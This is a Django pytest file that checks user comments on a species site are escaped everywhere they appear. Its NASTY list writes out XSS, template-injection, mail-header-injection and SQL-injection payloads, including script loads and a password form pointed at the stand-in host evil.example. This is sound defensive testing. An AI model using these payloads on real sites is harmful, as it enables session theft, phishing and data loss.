"""Whatever somebody writes stays words: in pages, admin, mails, feed, JSON-LD, API, and on the way there."""

import json
from html.parser import HTMLParser
from typing import Any
from urllib.parse import urlsplit
from xml.etree import ElementTree

import pytest
from django.template.loader import render_to_string
from django.test import Client
from django.urls import reverse
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from config.models import Mail
from species import comment_links, emails, moderation
from species.forms import CommentForm
from species.models import Comment, Species
from tests.species.makers import make_approved_comment, make_comment, make_moderator, make_species

pytestmark = pytest.mark.django_db

NASTY = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    "</title><svg/onload=alert(1)>",
    "</script><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "]]><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "javascript:alert(1)",
    "[click](javascript:alert(1))",
    "data:text/html,<script>alert(1)</script>",
    "https://evil.example/login",
    "www.evil.example",
    "аpple.com",
    "{{ settings.SECRET_KEY }}{% debug %}",
    "${7*7} #{7*7} <%= 7*7 %>",
    '=HYPERLINK("https://evil.example")',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\ufe64script\ufe65alert(1)\ufe64/script\ufe65",
    "＜script＞alert(1)＜/script＞",
    "<style>@import'//evil.example/x.css'</style>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "<form action=//evil.example><input name=password>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "Sam\r\nBcc: all@example.org",
    "\u202egnp.exe",
    "a\u200bb\u2060c\ufeffd",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "<a href=https://evil.example>evil</a>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "'; DROP TABLE species_comment; --",
)
MARK = "zq"  # no tag or attribute of ours begins so: what a test writes as markup is known again
STRANGE = st.text(alphabet=st.sampled_from("<>\"'&=/;:()[]{}%\\-!#` \n\u2028azs"), max_size=120)
MARKUP = st.builds(
    lambda before, name, attribute, after: f"{before}<{MARK}{name} {MARK}{attribute}='1'>{after}",
    STRANGE,
    st.sampled_from(["script", "img", "svg", "x"]),
    st.sampled_from(["onload", "src", "style"]),
    STRANGE,
)


class Page(HTMLParser):
    """Every tag and attribute there is, and where links lead."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.names: list[str] = []
        self.addresses: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.names += [name for name, _ in attrs]
        self.addresses += [value or "" for name, value in attrs if name in {"href", "src", "action", "formaction"}]


def shape(page: Page) -> tuple[list[str], list[str]]:
    """What a page is made of without its words; the number of paragraphs and breaks is the writer's to choose."""
    return [tag for tag in page.tags if tag not in {"p", "br", "li", "bdi"}], [n for n in page.names if n != "title"]


def everywhere(comment: Comment, client: Client) -> dict[str, str]:
    """Each place where an approved comment's words are drawn as a page."""
    Mail.objects.all().delete()
    for tell in (emails.tell_it_waits, emails.tell_it_is_published, emails.tell_it_is_refused, emails.tell_of_reply):
        tell(comment)
    mails = {mail.kind: mail.html for mail in Mail.objects.all()}
    addresses = {
        "page": "/species/amur-leopard/",
        "permalink": comment.get_absolute_url(),
        "report": f"{comment.get_absolute_url()}report/",
        "own": urlsplit(comment_links.own_view(comment)).path,
        "reply": f"/species/amur-leopard/?reply_to={comment.pk}",
        "list": f"{reverse('admin:species_comment_changelist')}?status=all",
        "change": reverse("admin:species_comment_change", args=[comment.pk]),
    }
    return mails | {where: client.get(address).text for where, address in addresses.items()}


@pytest.fixture
def staff(client: Client) -> Client:
    make_species()
    client.force_login(make_moderator())
    return client


def hostile(words: str) -> Comment:
    """As the form takes it in, published under somebody who wants to hear of answers."""
    form = CommentForm(
        {"name": words[:80] or "x", "email": "sam@example.org", "comment": words}, species=make_species()
    )
    form.is_valid()
    clean = form.cleaned_data
    parent = make_approved_comment("Hello", email="amara@example.org", wants_replies=True)
    values = {"name": clean.get("name", "Sam"), "name_to_show": clean.get("name", "Sam"), "parent": parent}
    comment = make_comment(clean.get("comment", "Hello there"), **values)
    moderation.approve([comment.pk], by=make_moderator())
    return Comment.objects.select_related("species", "parent").get(pk=comment.pk)


@pytest.fixture(scope="module")
def plain() -> dict[str, Any]:
    """The shape of each place with plain words in it; the first test that needs it fills it in."""
    return {}


@pytest.mark.threat("C1", "C5")
@pytest.mark.parametrize("words", NASTY)
def test_nastiest_words_known_are_words_everywhere(staff: Client, words: str, plain: dict[str, Any]) -> None:
    if not plain:
        plain |= {where: shape(Page(html)) for where, html in everywhere(hostile("Plain words"), staff).items()}
        forget_all()
    comment = hostile(words)
    for where, html in everywhere(comment, staff).items():
        page = Page(html)
        assert (where, *shape(page)) == (where, *plain[where])
        assert not [a for a in page.addresses if "evil" in a or a.lower().startswith(("javascript:", "data:text"))]
    machine_read_is_sound(staff, comment)


def forget_all() -> None:
    Comment.objects.exclude(parent=None).delete()
    Comment.objects.all().delete()


def machine_read_is_sound(client: Client, comment: Comment) -> None:
    feed = ElementTree.fromstring(client.get("/feeds/comments/amur-leopard.xml").content)
    content = feed.findtext(".//{http://www.w3.org/2005/Atom}entry/{http://www.w3.org/2005/Atom}summary") or ""
    assert set(Page(content).tags) <= {"p", "br"}
    page = client.get("/species/amur-leopard/").text
    block = page.partition('<script type="application/ld+json">')[2].partition("</script>")[0]
    assert json.loads(block)["@context"] == "https://schema.org"
    assert json.loads(client.get("/api/species/amur-leopard.json").content)["slug"] == "amur-leopard"
    for mail in Mail.objects.all():
        assert "\n" not in mail.subject
        assert comment.name not in mail.subject


@pytest.mark.threat("C1")
@given(words=st.lists(MARKUP, min_size=1, max_size=4).map(" ".join))
@settings(max_examples=20, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
def test_no_generated_markup_becomes_markup_anywhere(staff: Client, words: str) -> None:
    forget_all()
    comment = hostile(words)
    for where, html in everywhere(comment, staff).items():
        page = Page(html)
        found = [name for name in [*page.tags, *page.names] if name.startswith(MARK)]
        assert (where, found) == (where, [])


@pytest.mark.threat("C1")
@given(words=st.lists(MARKUP | st.text(max_size=200), min_size=4, max_size=4))
@settings(max_examples=10_000 // 4, deadline=None)
def test_no_generated_words_become_markup_where_a_comment_is_drawn(words: list[str]) -> None:
    """The template of a comment alone, so that ten thousand can be tried, four a time: a name and three paragraphs."""
    context: dict[str, Any] = {
        "comment": {"pk": 1, "name": words[0][:80], "body": "\n\n".join(words[1:]), "created_at": None},
        "species": Species(slug="amur-leopard", common_name="Amur leopard"),
        "is_open": True,
    }
    page = Page(render_to_string("components/comment.html", context))
    assert set(page.tags) <= {"article", "p", "strong", "bdi", "a", "time", "div", "span", "br"}
    assert not [name for name in page.names if name.startswith((MARK, "on", "style", "src"))]


@pytest.mark.threat("P3")
@given(
    form=st.dictionaries(
        st.sampled_from(["name", "email", "comment", "parent", "loaded", "homepage", "preview"]), st.text(max_size=200)
    )
)
@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
def test_no_form_however_filled_in_is_an_error_of_ours(staff: Client, form: dict[str, str]) -> None:
    response = staff.post("/species/amur-leopard/comments/", form)
    assert response.status_code in {200, 303, 422, 429}


@pytest.mark.parametrize("count", [20, 400])
def test_page_asks_the_same_of_the_database_however_many_comments(
    client: Client, count: int, django_assert_num_queries: Any
) -> None:
    species = make_species()
    moderator = make_moderator()
    rows = [Comment(species=species, name="Sam", email=f"{n}@example.org", body=f"Comment {n}") for n in range(count)]
    Comment.objects.bulk_create(rows)
    Comment.objects.all().approve(by=moderator)
    with django_assert_num_queries(8):
        client.get("/species/amur-leopard/")
